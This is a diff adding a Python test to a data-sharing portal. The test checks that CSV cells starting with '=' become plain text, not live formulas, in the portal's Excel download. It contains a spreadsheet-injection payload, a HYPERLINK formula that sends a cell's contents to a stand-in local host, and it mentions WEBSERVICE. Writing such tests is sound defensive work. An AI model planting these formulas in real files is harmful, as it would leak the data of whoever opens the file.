@@ -286,3 +286,33 @@ async def test_an_agreement_id_a_provider_chose_cannot_point_our_buttons_at_anot
         (action,) = [a for a in re.findall(r'action="([^"]+)"', page.text) if a.startswith("/portal/data/")]
         resolved = urlsplit(urljoin(f"{oem.settings.public_url}/portal/data", action.replace("&amp;", "&"))).path
         assert resolved.startswith("/portal/data/") and "/" not in resolved.removeprefix("/portal/data/"), resolved
+
+
+async def test_a_partners_cell_that_looks_like_a_formula_stays_text_in_the_excel_download(tmp_path: Path) -> None:
+    """openpyxl writes a string that begins with "=" as a formula: a provider's cell '=HYPERLINK(…)' or
+    '=WEBSERVICE(…)' became a live formula in the Excel file our portal handed the person."""
+    import io
+
+    import openpyxl
+
+    from sangsaeng.portal import auth
+    from tests.helpers import dataspace, negotiate, offer_policy, publish, start_transfer
+
+    formula = '=HYPERLINK("http://127.0.0.1:9/?"&A2,"open")'
+    async with dataspace(tmp_path, ["supplier", "oem"]) as space:
+        supplier, oem = space.parties["supplier"], space.parties["oem"]
+        csv_text = f'lot_no,"=1+1"\nL1,"{formula.replace(chr(34), chr(34) * 2)}"\nL2,=SUM(1;2)\n'
+        dataset_id, offer_id = await publish(supplier, csv_text, offer_policy(oem.id))
+        agreement = await negotiate(oem, supplier, dataset_id, offer_id)
+        transfer = await start_transfer(oem, agreement["agreementId"])
+        await auth.add_user(oem.connector.store, "kim", PASSWORD, "viewer", oem.connector.now())
+        transport = httpx.ASGITransport(app=oem.app, client=("127.0.0.1", 50000))
+        async with httpx.AsyncClient(transport=transport, base_url=oem.settings.public_url) as client:
+            assert (await sign_in(client, "kim", PASSWORD)).status_code == 303
+            got = await client.get(f"/portal/transfers/{transfer['id']}/download", params={"format": "xlsx"})
+        assert got.status_code == 200, got.text
+        sheet = openpyxl.load_workbook(io.BytesIO(got.content)).active
+        assert sheet is not None
+        cells = [cell for row in sheet.iter_rows() for cell in row]
+        assert [c.value for c in cells] == ["lot_no", "=1+1", "L1", formula, "L2", "=SUM(1;2)"]
+        assert {c.data_type for c in cells} == {"s"}, [(c.value, c.data_type) for c in cells]
